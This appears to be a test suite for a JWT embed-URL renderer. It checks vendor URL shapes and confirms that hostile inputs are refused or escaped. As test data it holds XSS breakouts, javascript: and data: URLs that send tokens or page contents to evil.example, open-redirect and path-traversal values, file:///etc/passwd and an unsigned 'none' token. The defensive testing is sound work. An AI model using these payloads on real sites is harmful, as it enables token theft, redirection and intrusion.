// Embed URLs and snippets: every vendor's shape from the vendor notes, and
// hostile values encoded for where they land or refused outright.

import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { checkPreset, listPresets, renderEmbed, parseTemplate } from '../../src/core/index';
import type { Preset } from '../../src/core/index';
import { parseUrlTemplate } from '../../src/core/profiles/embedTemplate';
import { checkEmbedUrl } from '../../src/core/profiles/embed';

const preset = (id: string): Preset => listPresets().find((p) => p.id === id) as Preset;
const TOKEN = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1In0.c2ln';

function render(id: string, values: Record<string, unknown>, token = TOKEN) {
  const r = renderEmbed(preset(id), values, token);
  if (!r.ok) assert.fail(r.error.message);
  return r;
}

describe('vendor shapes', () => {
  test('activepieces: legacy URL, SDK snippet with configure()', () => {
    const r = render('activepieces', { instanceUrl: 'https://cloud.activepieces.com/', sdkVersion: '0.3.7' });
    assert.equal(r.url, `https://cloud.activepieces.com/embed?jwtToken=${TOKEN}`);
    assert.equal(r.host, 'cloud.activepieces.com');
    assert.match(r.snippets.sdk ?? '', /<script src="https:\/\/cdn\.activepieces\.com\/sdk\/embed\/0\.3\.7\.js"><\/script>/);
    assert.match(r.snippets.sdk ?? '', /instanceUrl: "https:\/\/cloud\.activepieces\.com",/);
    assert.match(r.snippets.sdk ?? '', new RegExp(`jwtToken: "${TOKEN}"`));
    assert.match(r.snippets.sdk ?? '', /embedding: \{ containerId: "container" \}/);
  });

  test('activepieces: without an SDK version the SDK snippet is skipped, not broken', () => {
    const r = render('activepieces', { instanceUrl: 'https://ap.example.com' });
    assert.equal(r.snippets.sdk, undefined);
    assert.match(r.skipped.sdk ?? '', /sdkVersion/);
    assert.ok(r.snippets.iframe);
  });

  test('frameable: https://<domain>.frameable.com/events/<event>?token=', () => {
    assert.equal(render('frameable', { domain: 'acme', event: 'launch-week' }).url, `https://acme.frameable.com/events/launch-week?token=${TOKEN}`);
  });

  test('acadio: /auth/callback/jwt-auth?token=&go=', () => {
    assert.equal(render('acadio', { domain: 'learn.example.com', go: '/courses/1?x=1' }).url, `https://learn.example.com/auth/callback/jwt-auth?token=${TOKEN}&go=%2Fcourses%2F1%3Fx%3D1`);
  });

  test('metabase-embed: token as a path segment, appearance in the hash', () => {
    const r = render('metabase-embed', { siteUrl: 'https://mb.example.com', theme: 'night', hide_parameters: 'a,b' });
    assert.equal(r.url, `https://mb.example.com/embed/dashboard/${TOKEN}#bordered=true&titled=true&theme=night&hide_parameters=a%2Cb`);
    assert.match(r.snippets.iframe ?? '', /^<iframe src="https:\/\/mb\.example\.com\/embed\/dashboard\/[^"]+#bordered=true&amp;titled=true/);
    const q = render('metabase-embed', { siteUrl: 'https://mb.example.com/metabase', resource: 'question', bordered: false });
    assert.equal(q.url, `https://mb.example.com/metabase/embed/question/${TOKEN}#bordered=false&titled=true`);
  });

  test('metabase-sso: /auth/sso?jwt=&return_to=', () => {
    assert.equal(render('metabase-sso', { siteUrl: 'https://mb.example.com', returnTo: '/dashboard/1' }).url, `https://mb.example.com/auth/sso?jwt=${TOKEN}&return_to=%2Fdashboard%2F1`);
  });

  test('zendesk: /access/jwt URL and a POST form', () => {
    const r = render('zendesk', { subdomain: 'acme', returnTo: 'https://acme.zendesk.com/hc' });
    assert.equal(r.url, `https://acme.zendesk.com/access/jwt?jwt=${TOKEN}&return_to=https%3A%2F%2Facme.zendesk.com%2Fhc`);
    assert.match(r.snippets.form ?? '', /<form method="post" action="https:\/\/acme\.zendesk\.com\/access\/jwt">/);
    assert.match(r.snippets.form ?? '', new RegExp(`name="jwt" value="${TOKEN}"`));
    assert.match(r.snippets.form ?? '', /name="return_to" value="https:\/\/acme\.zendesk\.com\/hc"/);
  });

  test('grafana: dashboard path with orgId, kiosk and auth_token', () => {
    assert.equal(render('grafana', { siteUrl: 'https://g.example.com', dashboardUid: 'abc', slug: 'sales' }).url, `https://g.example.com/d/abc/sales?orgId=1&kiosk&auth_token=${TOKEN}`);
    assert.equal(render('grafana', { siteUrl: 'https://g.example.com', dashboardUid: 'abc', kiosk: false, orgId: 2 }).url, `https://g.example.com/d/abc?orgId=2&auth_token=${TOKEN}`);
  });

  test('tableau: <tableau-viz src=… token=…>', () => {
    const r = render('tableau', { host: 'prod.online.tableau.com', site: 'acme', workbook: 'Sales', view: 'Q1 Overview' });
    assert.equal(r.url, 'https://prod.online.tableau.com/t/acme/views/Sales/Q1%20Overview');
    assert.match(r.snippets['tableau-viz'] ?? '', new RegExp(`<tableau-viz src="https://prod\\.online\\.tableau\\.com/t/acme/views/Sales/Q1%20Overview" token="${TOKEN}"></tableau-viz>`));
  });

  test('canny: redirect URL and widget snippet', () => {
    const r = render('canny', { companyID: 'c1', redirect: 'https://feedback.canny.io', boardToken: 'b1' });
    assert.equal(r.url, `https://canny.io/api/redirects/sso?companyID=c1&ssoToken=${TOKEN}&redirect=https%3A%2F%2Ffeedback.canny.io`);
    assert.match(r.snippets.widget ?? '', /Canny\('render', \{\n {2}boardToken: "b1",\n {2}ssoToken: "/);
  });

  test('featurebase: /api/v1/auth/access/jwt', () => {
    assert.equal(render('featurebase', { org: 'acme' }).url, `https://acme.featurebase.app/api/v1/auth/access/jwt?jwt=${TOKEN}`);
  });

  test('superset: a snippet, no URL; host from the site', () => {
    const r = render('superset', { siteUrl: 'https://bi.example.com', dashboardId: '11111111-2222-3333-4444-555555555555' });
    assert.equal(r.url, undefined);
    assert.equal(r.host, 'bi.example.com');
    assert.match(r.snippets['embedded-sdk'] ?? '', /supersetDomain: "https:\/\/bi\.example\.com"/);
    assert.match(r.snippets['embedded-sdk'] ?? '', /fetchGuestToken: async \(\) => "/);
  });

  test('generic has no embed', () => {
    assert.equal(renderEmbed(preset('generic'), {}, TOKEN).ok, false);
  });
});

describe('hostile values', () => {
  test('an attribute breakout is encoded in URLs and escaped in HTML', () => {
    const r = render('frameable', { domain: 'acme', event: '"><script>alert(1)</script>' });
    assert.ok(!r.url?.includes('<') && !r.url?.includes('"'));
    assert.ok(!(r.snippets.link ?? '').includes('<script>'));
    const z = render('zendesk', { subdomain: 'acme', returnTo: 'https://x/"><script>' }, 'a"b<c');
    assert.ok(!(z.snippets.form ?? '').includes('<script>'));
    assert.match(z.snippets.form ?? '', /value="a&quot;b&lt;c"/);
  });

  test('a token cannot break out of a JS string or a <script> block', () => {
    const r = render('canny', { companyID: 'c', boardToken: '</script><script>alert(1)</script>' }, 'x"+alert(1)+"\u2028');
    const w = r.snippets.widget ?? '';
    assert.ok(!w.includes('</script>'));
    assert.match(w, /ssoToken: "x\\"\+alert\(1\)\+\\"\\u2028"/);
  });

  test('instanceUrl: javascript:, data:, credentials, query and breakouts are refused', () => {
    for (const bad of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,<x>', 'https://user:pw@evil.example', 'https://ok.example?x=1', 'https://ok.example#x', 'https://ok.example/"onload="x', 'ftp://ok.example', '//evil.example', 'cloud.activepieces.com']) {
      const r = renderEmbed(preset('activepieces'), { instanceUrl: bad }, TOKEN);
      assert.equal(r.ok, false, bad);
      if (!r.ok) assert.equal(r.error.code, 'EMBED_INVALID');
    }
  });

  test('subdomain labels and hosts cannot move the origin', () => {
    for (const bad of ['evil.com/x', 'acme.evil.com', 'a@b', '-acme', 'ac me', '']) {
      assert.equal(renderEmbed(preset('zendesk'), { subdomain: bad }, TOKEN).ok, false, bad);
    }
    for (const bad of ['evil.com/path', 'user@evil.com', 'evil.com?x', 'evil.com#x', 'https://evil.com', 'evil.com\\@good.com']) {
      assert.equal(renderEmbed(preset('acadio'), { domain: bad }, TOKEN).ok, false, bad);
    }
  });

  test('return paths must be local', () => {
    assert.equal(renderEmbed(preset('metabase-sso'), { siteUrl: 'https://mb.example.com', returnTo: '//evil.example' }, TOKEN).ok, false);
    assert.equal(renderEmbed(preset('metabase-sso'), { siteUrl: 'https://mb.example.com', returnTo: 'https://evil.example' }, TOKEN).ok, false);
  });

  test('path filter encodes slashes; a value with a dot segment is refused', () => {
    assert.equal(render('frameable', { domain: 'acme', event: 'a/b' }).url, `https://acme.frameable.com/events/a%2Fb?token=${TOKEN}`);
    const r = renderEmbed(preset('frameable'), { domain: 'acme', event: '../../admin' }, TOKEN);
    assert.equal(r.ok, false);
    if (!r.ok) assert.match(r.error.message, /"event" fills one path segment, but "\.\.\/\.\.\/admin" contains the dot segment "\.\."/);
  });

  test('no token: a message saying to sign first', () => {
    const r = renderEmbed(preset('frameable'), { domain: 'acme', event: 'e' }, '');
    assert.equal(r.ok, false);
  });
});

describe('templates', () => {
  test('a placeholder without an encoding, or with an unknown one, is refused', () => {
    assert.equal(parseTemplate('https://x/{token}').ok, false);
    assert.equal(parseTemplate('https://x/{token|raw}').ok, false);
    assert.equal(parseTemplate('https://x/{[a={a|query}').ok, false);
    assert.equal(parseTemplate('https://x/?t={token|query}{[&a={a|query}]}').ok, true);
  });
});

/** A user preset built in memory, as if it had skipped checkPreset: renderEmbed must check the template itself. */
function custom(url: string | undefined, params: Record<string, unknown> = {}, snippets: Record<string, string> = {}): Preset {
  const properties = Object.fromEntries(Object.keys(params).map((k) => [k, { type: 'string' }]));
  return {
    id: 'custom',
    name: 'Custom',
    alg: { default: 'HS256', allowed: ['HS256'] },
    lifetime: { default: 300 },
    claims: { type: 'object' },
    embed: { delivery: 'redirect', params: { type: 'object', properties, additionalProperties: false }, ...(url === undefined ? {} : { url }), snippets },
  } as Preset;
}

function refused(r: ReturnType<typeof renderEmbed>, pattern: RegExp, label = ''): void {
  assert.equal(r.ok, false, `${label} was accepted: ${r.ok ? r.url : ''}`);
  if (!r.ok) {
    assert.equal(r.error.code, 'EMBED_INVALID');
    assert.match(r.error.message, pattern, label);
  }
}

const USER_PRESET = (url: string) => `id: mine\nname: Mine\nalg: { default: HS256, allowed: [HS256] }\nlifetime: { default: 300 }\nclaims: { type: object }\nembed:\n  delivery: redirect\n  url: ${JSON.stringify(url)}\n`;

describe('embed URLs are web URLs (scheme fixed by the template)', () => {
  const NOT_WEB = [
    'javascript:alert(document.cookie)//{token|query}',
    'JaVaScRiPt:fetch(`//evil.example/${{token|query}}`)',
    'data:text/html,<script>location="https://evil.example/?"+{token|query}</script>',
    'file:///etc/passwd?{token|query}',
    'vscode://publisher.other-extension/run?token={token|query}',
    'vscode-insiders://ms-vscode.remote/x?t={token|query}',
    '//evil.example/?t={token|query}',
    ' https://evil.example/?t={token|query}',
    '\thttps://evil.example/?t={token|query}',
    '/relative/{token|path}',
    '{token|query}',
    'https:evil.example/{token|path}',
    'https:///evil.example/{token|path}',
  ];

  test('H70 a url template that is not https:// or http:// is refused when the preset is read, with the reason', () => {
    for (const url of NOT_WEB) {
      const checked = checkPreset(USER_PRESET(url), 'mine.yaml');
      assert.equal(checked.preset, undefined, url);
      const d = checked.diagnostics.find((x) => x.code === 'PRESET_TEMPLATE');
      assert.ok(d, url);
      assert.match(d.message, /must start with https:\/\/ \(or http:\/\/\)|has no host/, url);
    }
    const js = checkPreset(USER_PRESET(NOT_WEB[0] as string), 'mine.yaml').diagnostics.find((x) => x.code === 'PRESET_TEMPLATE');
    assert.match(js?.message ?? '', /"javascript:" URLs are refused/);
    const vs = checkPreset(USER_PRESET(NOT_WEB[4] as string), 'mine.yaml').diagnostics.find((x) => x.code === 'PRESET_TEMPLATE');
    assert.match(vs?.message ?? '', /"vscode:" URLs are refused/);
  });

  test('H70 the same templates are refused again at render time (a preset that skipped checkPreset)', () => {
    for (const url of NOT_WEB) refused(renderEmbed(custom(url), {}, TOKEN), /url template is refused/, url);
  });

  test('H71 the template must fix its host: no value other than |host or |label in it, no user name, no optional host', () => {
    const bad: Array<[string, RegExp]> = [
      ['https://{h|query}/x?t={token|query}', /part of the embed URL's host/],
      ['https://{h|path}.example.com/x?t={token|query}', /part of the embed URL's host/],
      ['https://acme@{h|host}/x?t={token|query}', /an @/],
      ['https://good.example\\@evil.example/?t={token|query}', /a backslash/],
      ['https://{[{h|label}.]}example.com/?t={token|query}', /optional section/],
      ['{[{site|base}]}/x?t={token|query}', /optional section/],
      ['{site|base|query}/x?t={token|query}', /starts with \{site\|base\|query\}/],
      ['{site|base}.evil.example/?t={token|query}', /must go on with \/, \? or #/],
      ['{site|base}@evil.example/?t={token|query}', /must go on with \/, \? or #/],
      ['{site|base}{p|path}?t={token|query}', /must go on with \/, \? or #/],
      ['https://x.example/?u={token|html}', /escapes for HTML, not for a URL/],
      ['https://x.example/{p|js}?t={token|query}', /escapes for JavaScript, not for a URL/],
      ['https://x.example/?next={site|base}&t={token|query}', /without encoding it/],
    ];
    for (const [url, why] of bad) {
      const p = parseUrlTemplate(url);
      assert.equal(p.ok, false, url);
      if (!p.ok) assert.match(p.message, why, url);
    }
  });

  test('H70/H71 every built-in url template, http://localhost and an upper-case scheme still pass', () => {
    for (const p of listPresets()) if (p.embed?.url) assert.ok(parseUrlTemplate(p.embed.url).ok, p.id);
    for (const url of ['http://localhost:3000/{token|path}', 'HTTPS://x.example/?t={token|query}', 'https://x.example', '{o|origin}#t={token|hash}', 'https://{h|host}/{[{p|path}]}?t={token|query}']) {
      const p = parseUrlTemplate(url);
      assert.ok(p.ok, p.ok ? url : p.message);
    }
  });

  test('H70/H71 a rendered URL is checked as a browser reads it (scheme, user name, origin)', () => {
    assert.match(fails(checkEmbedUrl('javascript:alert(1)//https://x.example/', 'javascript:alert(1)//https://x.example/')), /"javascript:" URL/);
    assert.match(fails(checkEmbedUrl('https://a@evil.example/x', 'https://a@evil.example/')), /user name before the host/);
    assert.match(fails(checkEmbedUrl('https://good.example.evil.example/x', 'https://good.example/')), /goes to https:\/\/good\.example\.evil\.example, not to https:\/\/good\.example/);
    assert.match(fails(checkEmbedUrl('https://good.example/x\\y', 'https://good.example/')), /a backslash/);
    assert.match(fails(checkEmbedUrl('https://good.example/x\t/y', 'https://good.example/')), /tab, newline or control character/);
  });

  test('H72 plain http: a clear-text warning for any host but this machine (RFC 6750 §5.3)', () => {
    const sso = (siteUrl: string) => {
      const r = renderEmbed(preset('metabase-sso'), { siteUrl }, TOKEN);
      if (!r.ok) assert.fail(r.error.message);
      return r;
    };
    assert.equal(sso('http://mb.example.com').cleartextHost, 'mb.example.com');
    assert.equal(sso('http://10.0.0.7:3000').cleartextHost, '10.0.0.7:3000');
    assert.equal(sso('http://127.0.0.2.example.com').cleartextHost, '127.0.0.2.example.com');
    for (const local of ['http://localhost:3000', 'http://127.0.0.1', 'http://127.1:8080', 'http://[::1]:8080', 'http://mb.localhost', 'https://mb.example.com']) {
      assert.equal(sso(local).cleartextHost, undefined, local);
    }
    // A snippet-only preset: the token goes to the base value's host.
    const s = renderEmbed(preset('superset'), { siteUrl: 'http://bi.example.com', dashboardId: '11111111-2222-3333-4444-555555555555' }, TOKEN);
    assert.ok(s.ok);
    if (s.ok) assert.equal(s.cleartextHost, 'bi.example.com');
    // A literal http:// template is kept, and warned about.
    const lit = renderEmbed(custom('http://intranet.example/sso?jwt={token|query}'), {}, TOKEN);
    assert.ok(lit.ok);
    if (lit.ok) assert.equal(lit.cleartextHost, 'intranet.example');
  });

  test('H75 IDN and look-alike hosts: the host reported for confirmation is the one the browser goes to', () => {
    const cases: Array<[string, string]> = [
      ['https://bücher.example', 'xn--bcher-kva.example'],
      ['https://ｍｂ.example.com', 'mb.example.com'],
      ['https://mb.example.com。evil.example', 'mb.example.com.evil.example'],
      ['https://mb.example.com:8443', 'mb.example.com:8443'],
      ['https://mb.example.com:443', 'mb.example.com'],
    ];
    for (const [siteUrl, host] of cases) {
      const r = render('metabase-sso', { siteUrl });
      assert.equal(r.host, host, siteUrl);
      assert.equal(new URL(r.url ?? '').host, host, siteUrl);
      assert.ok(r.url?.startsWith(`https://${host}/auth/sso?`), siteUrl);
    }
    for (const siteUrl of ['https://mb.example.com／evil.example', 'https://mb.example.com＠evil.example', 'https://a@evil.example', 'https://evil.example\u0000x']) {
      refused(renderEmbed(preset('metabase-sso'), { siteUrl }, TOKEN), /siteUrl/, siteUrl);
    }
  });

  test('H77 a long run of slashes in a base value is handled in linear time', { timeout: 10_000 }, () => {
    const siteUrl = `https://mb.example.com/${'/'.repeat(200_000)}a`;
    const r = render('metabase-sso', { siteUrl });
    assert.equal(r.host, 'mb.example.com');
    assert.ok(r.url?.endsWith(`a/auth/sso?jwt=${TOKEN}`));
  });
});

function fails(r: ReturnType<typeof checkEmbedUrl>): string {
  assert.equal(r.ok, false);
  return r.ok ? '' : r.message;
}

describe('values that move the URL', () => {
  test('H73 path values "." and "..", in every spelling, are refused (Grafana, Tableau, Frameable)', () => {
    const DOTS = ['..', '.', '%2e%2e', '%2E.', '.%2e', '%252e%252e', '．．', '\u2025', 'a/../..', '..\\x', '../../api/admin/users'];
    for (const v of DOTS) {
      refused(renderEmbed(preset('grafana'), { siteUrl: 'https://g.example.com', dashboardUid: v }, TOKEN), /"dashboardUid" fills one path segment/, `uid ${v}`);
      refused(renderEmbed(preset('grafana'), { siteUrl: 'https://g.example.com', dashboardUid: 'abc', slug: v }, TOKEN), /"slug" fills one path segment/, `slug ${v}`);
      for (const k of ['site', 'workbook', 'view']) {
        const values = { host: 'prod.online.tableau.com', site: 'acme', workbook: 'Sales', view: 'Overview', [k]: v };
        refused(renderEmbed(preset('tableau'), values, TOKEN), new RegExp(`"${k}" fills one path segment`), `${k} ${v}`);
      }
      refused(renderEmbed(preset('frameable'), { domain: 'acme', event: v }, TOKEN), /"event" fills one path segment/, `event ${v}`);
    }
    // Names with dots in them are not dot segments.
    for (const v of ['...', '.hidden', 'v1.2', 'a..b', '%2e%2e%2e']) assert.ok(render('frameable', { domain: 'acme', event: v }).url, v);
  });

  test('H73 a "." or ".." segment written into the template itself is refused at render time', () => {
    for (const url of ['https://x.example/a/../{token|path}', 'https://x.example/a/%2E%2e/{token|path}', 'https://x.example/./{token|path}']) {
      refused(renderEmbed(custom(url), {}, TOKEN), /its path has the segment/, url);
    }
    assert.match(fails(checkEmbedUrl('https://g.example.com/d/..?x=1', 'https://g.example.com/d/')), /segment "\.\."/);
  });

  test('H73 the path must stay under the prefix the template fixes', () => {
    assert.match(fails(checkEmbedUrl('https://g.example.com/api/x', 'https://g.example.com/d/')), /leaves \/d\//);
    assert.match(fails(checkEmbedUrl('https://x.example/auth/sso/more?jwt=t', 'https://x.example/auth/sso?jwt=')), /leaves \/auth\/sso/);
    assert.ok(checkEmbedUrl('https://g.example.com/d/abc/sales?orgId=1', 'https://g.example.com/d/').ok);
  });

  const HOSTILE_PATHS = ['/\\evil.com', '/\t/evil.com', '/\\/evil.com', '/\n/evil.com', '/\r/evil.com', '/\u0000/evil.com', '/\u0085/evil.com', '/%2F/evil.com', '/%2f%2fevil.com', '/%5Cevil.com', '/%09/evil.com', '/%252F/evil.com', '/／evil.com', '/＼evil.com', '\\\\evil.com', '\\/evil.com', '／／evil.com'];

  test('H74 redirect paths that a browser reads as another host are refused (Metabase returnTo, Acadio go)', () => {
    for (const v of HOSTILE_PATHS) {
      const mb = renderEmbed(preset('metabase-sso'), { siteUrl: 'https://mb.example.com', returnTo: v }, TOKEN);
      assert.equal(mb.ok, false, `returnTo ${JSON.stringify(v)}`);
      const ac = renderEmbed(preset('acadio'), { domain: 'learn.example.com', go: v }, TOKEN);
      assert.equal(ac.ok, false, `go ${JSON.stringify(v)}`);
    }
    // The ones the presets' own pattern (^/(?!/)) lets through are refused by the path rule, with its reason.
    refused(renderEmbed(preset('metabase-sso'), { siteUrl: 'https://mb.example.com', returnTo: '/\\evil.com' }, TOKEN), /"returnTo" starts with \/, so it is a path on the site.*backslash/);
    refused(renderEmbed(preset('acadio'), { domain: 'learn.example.com', go: '/\t/evil.com' }, TOKEN), /"go" starts with \/.*tab, newline or control character/);
    refused(renderEmbed(preset('acadio'), { domain: 'learn.example.com', go: '/%2F/evil.com' }, TOKEN), /read as "\/\/\/evil\.com"/);
    refused(renderEmbed(preset('acadio'), { domain: 'learn.example.com', go: '/／evil.com' }, TOKEN), /starts with \/\//);
  });

  test('H74 the same rule holds without a schema pattern, in the query, the fragment, HTML and JS', () => {
    const q = custom('https://x.example/sso?jwt={token|query}{[&next={next|query}]}{[#back={back|hash}]}', { next: '', back: '' }, { form: '<input name="next" value="{next|html}">', js: 'go({next|js});' });
    for (const v of [...HOSTILE_PATHS, ' //evil.com', '\t//evil.com', '//evil.com']) {
      refused(renderEmbed(q, { next: v }, TOKEN), /"next" starts with \//, `next ${JSON.stringify(v)}`);
      refused(renderEmbed(q, { back: v }, TOKEN), /"back" starts with \//, `back ${JSON.stringify(v)}`);
    }
    const ok = renderEmbed(q, { next: '/dashboard/1?tab=a#x', back: '/' }, TOKEN);
    assert.ok(ok.ok);
    if (ok.ok) assert.equal(ok.url, `https://x.example/sso?jwt=${TOKEN}&next=%2Fdashboard%2F1%3Ftab%3Da%23x#back=%2F`);
    // A redirect path written into the template itself is caught when the URL is read back.
    refused(renderEmbed(custom('https://x.example/sso?jwt={token|query}&next=/%5Cevil.com'), {}, TOKEN), /"next" value is a path that would leave the site/);
  });

  test('H74 local paths stay accepted, rendered exactly as before', () => {
    for (const v of ['/', '/dashboard/1', '/courses/1?x=1', '/a b', '/é', '/a//b', '/.hidden']) {
      const r = render('metabase-sso', { siteUrl: 'https://mb.example.com', returnTo: v });
      assert.equal(r.url, `https://mb.example.com/auth/sso?jwt=${TOKEN}&return_to=${encodeURIComponent(v)}`, v);
    }
    // Full URLs in return_to (Zendesk, Canny, Featurebase) are the vendor's to check, as before.
    assert.ok(render('zendesk', { subdomain: 'acme', returnTo: 'https://acme.zendesk.com/hc' }).url);
  });
});

describe('snippets: a value cannot decide a URL attribute', () => {
  test('H76 a value at the start of src=, href=, action= … is refused unless it is {url|html} or a base / origin value', () => {
    for (const t of ['<a href="{link|html}">x</a>', "<a href='{link|html}'>x</a>", '<a HREF = {link|html}>x</a>', '<iframe src="{[{link|html}]}"></iframe>', '<form action="{link|html}">', '<img srcset="{link|html} 2x">', 'location.href = {link|js};']) {
      const p = parseTemplate(t);
      assert.equal(p.ok, false, t);
      if (!p.ok) assert.match(p.message, /starts the [a-z]+= attribute, so its value would decide the whole URL/, t);
    }
    for (const t of ['<a x="1"href="{link|html}">', '<a/href={link|html}>']) assert.equal(parseTemplate(t).ok, false, t);
    for (const t of ['<iframe src="{url|html}"></iframe>', '<script src="{cdn|base|html}/x.js"></script>', '<a data-href="{link|html}">', '<a href="https://x.example/{link|path|html}">', '<p title="{link|html}">', 'Open https://x.example/?src={link|query}']) {
      assert.ok(parseTemplate(t).ok, t);
    }
    // Query parameters named like attributes are not attributes.
    assert.ok(parseUrlTemplate('https://x.example/?src={a|query}&data={b|query}&t={token|query}').ok);
    const checked = checkPreset(`${USER_PRESET('https://x.example/?t={token|query}')}  snippets:\n    link: '<a href="{token|html}">go</a>'\n`, 'mine.yaml');
    assert.match(checked.diagnostics.find((d) => d.code === 'PRESET_TEMPLATE')?.message ?? '', /starts the href= attribute/);
  });
});

describe('the renderer fills in token and url itself', () => {
  test('a profile value named url or token cannot stand in for the checked URL or the signed token', () => {
    // A preset with a snippet and no url template: before, a profile's embed.url reached {url|html} unchecked.
    const snippetOnly = { ...preset('superset'), embed: { delivery: 'snippet', snippets: { iframe: '<iframe src="{url|html}"></iframe>' } } } as unknown as Preset;
    for (const values of [{ url: 'javascript:fetch("https://evil.example/?"+document.body.innerHTML)' }, { token: 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.' }]) {
      const r = renderEmbed(snippetOnly, values, TOKEN);
      assert.equal(r.ok, false, JSON.stringify(values));
      if (!r.ok) assert.match(r.error.message, /is not an embed value a profile can set/);
    }
    const metabase = renderEmbed(preset('metabase-sso'), { siteUrl: 'https://mb.example.com', url: 'https://evil.example/' }, TOKEN);
    assert.equal(metabase.ok, false);
  });
});
